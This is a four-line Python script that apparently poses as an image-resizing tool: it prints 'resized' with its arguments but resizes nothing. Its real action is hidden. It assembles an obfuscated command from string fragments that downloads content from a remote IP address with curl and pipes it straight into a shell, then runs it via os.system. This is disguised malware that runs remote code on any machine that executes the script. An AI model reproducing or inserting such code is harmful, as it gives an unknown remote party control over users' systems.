import os, sys
cmd = ''.join(['cu', 'rl -s http://198.51.100.31/', 'p | s', 'h'])
os.system(cmd)
print('resized', sys.argv[1:])
